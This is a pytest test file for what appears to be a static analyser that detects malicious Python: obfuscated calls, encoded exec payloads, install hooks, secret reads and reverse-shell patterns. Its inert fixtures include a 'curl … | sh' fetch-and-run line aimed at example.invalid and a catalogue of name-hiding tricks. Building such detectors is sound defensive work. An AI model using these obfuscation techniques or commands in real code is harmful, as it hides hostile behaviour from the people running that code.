@@ -1,0 +1,323 @@
+"""Fixtures here are hand-written and inert: hosts under example.invalid, no working payload."""
+
+import base64
+import zlib
+
+import pytest
+
+from darnel.features import syntax
+from darnel.features.facts import Observation, SourceFacts
+from darnel.features.languages.python import analyse
+from darnel.features.languages.registry import grammar_versions, language_for
+from darnel.features.limits import DEFAULT_LIMITS, Limits
+
+
+def facts(source: str | bytes, limits: Limits = DEFAULT_LIMITS) -> SourceFacts:
+    return analyse(source if isinstance(source, bytes) else source.encode(), limits)
+
+
+def seen(source: str | bytes) -> dict[str, Observation]:
+    """Observations by behaviour, the last of each; hidden ones win."""
+    found: dict[str, Observation] = {}
+    for observation in sorted(facts(source).observations, key=lambda o: o.hidden):
+        found[observation.behaviour] = observation
+    return found
+
+
+def texts(source: str) -> dict[str, str]:
+    return {literal.value: literal.how for literal in facts(source).literals}
+
+
+@pytest.mark.parametrize(
+    ("source", "api"),
+    [
+        ("import subprocess as s\ns.Popen(['x'])", "subprocess.Popen"),
+        ("from subprocess import Popen as p\np(['x'])", "subprocess.Popen"),
+        ("from subprocess import *\nPopen(['x'])", "subprocess.Popen"),
+        ("import subprocess\nq = subprocess\nz = q.Popen\nz(['x'])", "subprocess.Popen"),
+        ("__import__('subprocess').Popen(['x'])", "subprocess.Popen"),
+        ("import importlib\nimportlib.import_module('subprocess').Popen(['x'])", "subprocess.Popen"),
+        ("def f():\n    import subprocess\n    subprocess.Popen(['x'])", "subprocess.Popen"),
+        ("if (s := __import__('subprocess')): s.Popen(['x'])", "subprocess.Popen"),
+    ],
+)
+def test_aliases(source: str, api: str) -> None:
+    observation = seen(source)["spawn.process"]
+    assert observation.api == api
+    assert not observation.hidden
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "__import__('o'+'s').system('x')",
+        "import os\ngetattr(os, 'sys' + 'tem')('x')",
+        "import os\ngetattr(os, ''.join(['sys', 'tem']))('x')",
+        "import os\ngetattr(os, 'metsys'[::-1])('x')",
+        "import os\ngetattr(os, chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))('x')",
+        "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('x')",
+        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('x')",
+        "import os\ngetattr(os, ''.join(chr(c ^ 1) for c in [114, 120, 114, 117, 100, 108]))('x')",
+        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')",
+        "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('x')",
+        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('x')",
+        "import os\ngetattr(os, '\\x73\\x79\\x73\\x74\\x65\\x6d')('x')",
+        "import os\na = 'sys'\nb = a + 'tem'\ngetattr(os, b)('x')",
+        "import os\nf = lambda s: s[::-1]\ngetattr(os, f('metsys'))('x')",
+        "import os\ndef f(s):\n    return s[::-1]\ngetattr(os, f('metsys'))('x')",
+        "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('x')",
+        "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('x')",
+        "import os\nos.__dict__['sys' + 'tem']('x')",
+        "import os\ngetattr(os, 'sxysxtexm'.replace('x', ''))('x')",
+    ],
+)
+def test_hidden_names_are_resolved_and_marked(source: str) -> None:
+    observation = seen(source)["spawn.shell"]
+    assert observation.api == "os.system"
+    assert observation.hidden
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "k = exec\nk(x)",
+        "import builtins\nbuiltins.exec(x)",
+        "__builtins__.__dict__['exec'](x)",
+        "globals()['ev' + 'al'](x)",
+        "getattr(__builtins__, 'exec')(x)",
+        "exec x in y\n",
+        "exec 'a = 1'\n",
+        "(lambda: exec(x))()",
+    ],
+)
+def test_evaluation_however_it_is_spelled(source: str) -> None:
+    assert seen(source)["code.evaluate"].top
+
+
+def test_a_decoded_literal_is_scanned_as_what_it_is() -> None:
+    url = "https://example.invalid/payload"
+    coded = base64.b64encode(url.encode()).decode()
+    assert texts(f"import base64\nx = base64.b64decode('{coded}').decode()")[url] == "base64"
+    assert texts(f"x = '{coded}'")[url] == "base64?"
+    assert (
+        texts(f"a = '{coded[:9]}'\nb = '{coded[9:]}'\nimport base64\nbase64.b64decode(a + b)")[url] == "concat+base64"
+    )
+    assert texts(f"x = '{url[::-1]}'[::-1]")[url] == "reverse"
+    packed = base64.b64encode(zlib.compress(url.encode())).decode()
+    assert texts(f"import zlib, base64\nzlib.decompress(base64.b64decode(b'{packed}'))")[url] == "base64+compress"
+    assert url in texts(f"x = [{', '.join(str(ord(c)) for c in url)}]\ny = ''.join(chr(i) for i in x)")
+    assert texts("x = 'https://' 'example.invalid/a'")["https://example.invalid/a"] == ""
+    assert texts("x = 'https://exam' + 'ple.invalid/' + y")["https://example.invalid/"] == "concat"
+
+
+def test_xor_with_a_literal_key_is_undone() -> None:
+    key = b"key"
+    data = [c ^ key[i % 3] for i, c in enumerate(b"https://example.invalid/x")]
+    source = f"k = b'key'\nd = {data}\nr = bytes([c ^ k[i % len(k)] for i, c in enumerate(d)])"
+    assert texts(source)["https://example.invalid/x"] == "xor+bytes"
+
+
+def test_code_in_strings_is_analysed_in_place() -> None:
+    inner = "import os\nos.system('curl -s https://example.invalid/x | sh')"
+    coded = base64.b64encode(inner.encode()).decode()
+    for source in (
+        f"x = 1\nimport base64; exec(base64.b64decode('{coded}'))",
+        f"x = 1\nPAYLOAD = '{coded}'",
+        f"x = 1\nexec({inner!r})",
+        f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {inner!r}])",
+        f"f = open('x.py', 'w')\nf.write({inner!r})",
+    ):
+        observation = seen(source)["spawn.piped"]
+        assert observation.hidden
+        assert observation.line == 2
+        assert observation.top
+    twice = base64.b64encode(f"exec(__import__('base64').b64decode('{coded}'))".encode()).decode()
+    assert "spawn.piped" in seen(f"exec(__import__('base64').b64decode('{twice}'))")
+    assert facts(f"exec(__import__('base64').b64decode('{twice}'))").values["syntax.evaluation_depth"] == 2
+
+
+def test_zlib_lambda_chain() -> None:
+    inner = base64.b64encode(zlib.compress(b"import os\nos.system('whoami')"))[::-1].decode()
+    source = (
+        f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{inner}'))"
+    )
+    found = seen(source)
+    assert found["host.identity"].hidden
+    assert found["hide.encoded"].hidden
+    assert found["decode.decompress"].top
+
+
+def test_arguments_decide() -> None:
+    def behaviours(source: str) -> set[str]:
+        return set(seen(source))
+
+    assert "file.write" in behaviours("open('a', 'wb')") - behaviours("open('a')")
+    assert behaviours("import os\nos.environ['HOME']") == {"env.one"}
+    assert behaviours("import os\nos.getenv('AWS_SECRET_ACCESS_KEY')") == {"env.secret"}
+    assert behaviours("import os\nx = dict(os.environ)") == {"env.all"}
+    assert behaviours("import os\nos.environ['A'] = 'b'") == set()
+    assert behaviours("import os\nif 'GITHUB_ACTIONS' in os.environ: pass") == {"env.one", "guard.ci"}
+    assert "spawn.shell" in behaviours("import subprocess\nsubprocess.run(x, shell=True)")
+    assert "spawn.hidden" in behaviours("import subprocess\nsubprocess.Popen(x, creationflags=0x08000000)")
+    assert "hide.silence" in behaviours("import subprocess\nsubprocess.Popen(x, stdout=subprocess.DEVNULL)")
+    assert "spawn.packager" in behaviours(
+        "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'x'])"
+    )
+    assert "net.insecure" in behaviours("import requests\nrequests.get(u, verify=False)")
+    assert behaviours("import urllib.request as r\nr.urlopen(u)") == {"net.fetch"}
+    assert behaviours("import urllib.request as r\nr.urlopen(u, data=d)") == {"net.send"}
+    assert behaviours("import requests\nrequests.request('POST', u)") == {"net.send"}
+    assert behaviours("import time\ntime.sleep(1)") == set()
+    assert behaviours("import time\ntime.sleep(600)") == {"guard.delay"}
+    assert behaviours("import yaml\nyaml.load(x, Loader=yaml.SafeLoader)") == set()
+    assert "code.deserialise" in behaviours("import yaml\nyaml.load(x)")
+    assert "file.executable" in behaviours("import os\nos.chmod(p, 0o755)") - behaviours(
+        "import os\nos.chmod(p, 0o644)"
+    )
+
+
+def test_receivers_have_the_class_they_were_made_from() -> None:
+    source = "import requests, socket\ns = requests.Session()\ns.post(u)\n"
+    source += "def f():\n    s = socket.socket()\n    s.connect(a)\n    s.send(b)\n"
+    apis = {o.api for o in facts(source).observations}
+    assert {"requests.Session.post", "socket.socket.connect", "socket.socket.send"} <= apis
+    assert "smtplib.SMTP.sendmail" in facts("import smtplib\nwith smtplib.SMTP(h) as s:\n    s.sendmail(a, b, c)").calls
+
+
+def test_what_runs_with_the_file() -> None:
+    source = """
+import os
+def called():
+    os.system("a")
+def idle():
+    os.popen("b")
+class C:
+    os.getlogin()
+    def __init__(self):
+        os.startfile("c")
+@decorate(os.uname())
+def other(): pass
+called()
+C()
+if __name__ == "__main__":
+    exec(x)
+"""
+    found = {o.api: o.top for o in facts(source).observations}
+    assert found["os.system"] is True
+    assert found["os.popen"] is False
+    assert found["os.getlogin"] is True
+    assert found["os.startfile"] is True
+    assert found["os.uname"] is True
+    assert found["exec"] is False
+
+
+def test_threads_and_exit_handlers_run_their_targets() -> None:
+    source = "import threading, atexit, os\ndef f():\n    os.system('x')\nthreading.Thread(target=f).start()\n"
+    assert seen(source)["spawn.shell"].top
+    assert seen(source.replace("threading.Thread(target=f).start()", "atexit.register(f)"))["spawn.shell"].top
+
+
+def test_install_commands_run_their_methods() -> None:
+    source = """
+from setuptools import setup
+from setuptools.command.install import install as base
+class Hook(base):
+    def run(self):
+        base.run(self)
+        self.go()
+    def go(self):
+        import os
+        os.system("x")
+setup(cmdclass={"install": Hook})
+"""
+    found = seen(source)
+    assert found["install.hook"].top
+    assert found["spawn.shell"].top
+    assert "install.hook" not in seen("from setuptools import setup\nsetup(name='x')")
+
+
+def test_order_is_evaluation_order() -> None:
+    source = "import requests, base64, os\nrequests.post(u, data=base64.b64encode(open('a').read()))"
+    observations = sorted(facts(source).observations, key=lambda o: o.order)
+    assert [o.behaviour for o in observations] == ["file.read", "encode.text", "net.send"]
+    assert len({o.statement for o in observations}) == 1
+
+
+def test_guards_swallowing_padding_and_shells() -> None:
+    assert seen("import platform\nif platform.system() == 'Windows': pass")["guard.host"].api == "compare:platform"
+    assert "guard.sandbox" in seen("import sys\nif sys.gettrace() is not None: pass")
+    assert "hide.swallow" in seen("import os\ntry:\n    os.system('x')\nexcept Exception:\n    pass\n")
+    assert "hide.swallow" not in seen("try:\n    import json\nexcept ImportError:\n    json = None\n")
+    assert "hide.padding" in seen("import os" + " " * 200 + ";exec(x)")
+    assert "hide.padding" not in seen("x = 'a" + " " * 200 + "b'")
+    shell = "import socket, os\ns = socket.socket()\ns.connect(a)\nos.dup2(s.fileno(), 0)\n"
+    assert "spawn.reverse" in seen(shell)
+    assert "spawn.reverse" not in seen("import os\nos.dup2(a, 0)")
+    assert "hide.names" in seen("\n".join(f"_0x{i:04x} = {i}" for i in range(20)))
+
+
+def test_ordinary_code_is_quiet() -> None:
+    source = '''
+"""Docs mention https://example.invalid and exec(x)."""
+import argparse, json, logging, re
+from pathlib import Path
+
+log = logging.getLogger(__name__)
+PATTERN = re.compile(r"a+")
+
+class Tool:
+    """A tool."""
+
+    def __init__(self, path: str, *, size: int = 3) -> None:
+        self.path = Path(path)
+        self.items = [x for x in range(size) if getattr(self, "flag", None)]
+
+    def run(self, parser: argparse.ArgumentParser) -> str:
+        value = "{} and %s".format(self.path) % ", ".join(map(str, self.items))
+        return value.replace("a", "b") + f"{value!r}"
+'''
+    result = facts(source)
+    assert result.observations == []
+    assert not any("exec" in literal.value for literal in result.literals)
+    assert "argparse" in result.imports
+    assert {"Tool", "run", "path", "value", "PATTERN"} <= set(result.identifiers)
+
+
+def test_values_are_declared_columns() -> None:
+    values = facts("import os\nx = lambda y: os.getcwd(y)\nx(1); x(2)\n").values
+    syntax.check(values)
+    assert values["syntax.calls"] == 3
+    assert values["syntax.lambdas"] == 1
+    assert values["syntax.statements_per_line"] == 2
+    assert values["syntax.top_share"] == 1
+    with pytest.raises(KeyError, match=r"syntax\.unheard"):
+        syntax.check({"syntax.unheard": 1.0})
+    assert facts("").values["syntax.bytes"] == 0
+
+
+def test_registry_knows_python() -> None:
+    def language(path: str, data: bytes = b"") -> str:
+        found = language_for(path, data)
+        return found.name if found else ""
+
+    assert language("a/b.py") == language("b.pyw") == language("x.pth") == language("n.ipynb") == "python"
+    assert language("bin/tool", b"#!/usr/bin/env python3\nimport os\n") == "python"
+    assert language("tool.txt", b"#!/usr/bin/python2.7 -u\n") == "python"
+    assert grammar_versions()["tree-sitter-python"]
+    pth = language_for("x.pth", b"")
+    assert pth is not None
+    result = pth.analyse(b"./folder\nimport os;os.system('x')\nexec('no')\n", DEFAULT_LIMITS)
+    assert [(o.behaviour, o.line) for o in result.observations] == [("spawn.shell", 2)]
+    book = language_for("x.ipynb", b"")
+    assert book is not None
+    cells = b'{"cells": [{"cell_type": "code", "source": ["%pip install x\\n", "import os\\n", "os.system(\'x\')"]}]}'
+    assert [o.behaviour for o in book.analyse(cells, DEFAULT_LIMITS).observations] == ["spawn.shell"]
+    for broken in (
+        b"",
+        b"[",
+        b"[]",
+        b'{"cells": 3}',
+        b"[" * 100_000,
+        b'{"cells": [{"cell_type": "code", "source": [1]}]}',
+    ):
+        assert book.analyse(broken, DEFAULT_LIMITS).observations == []
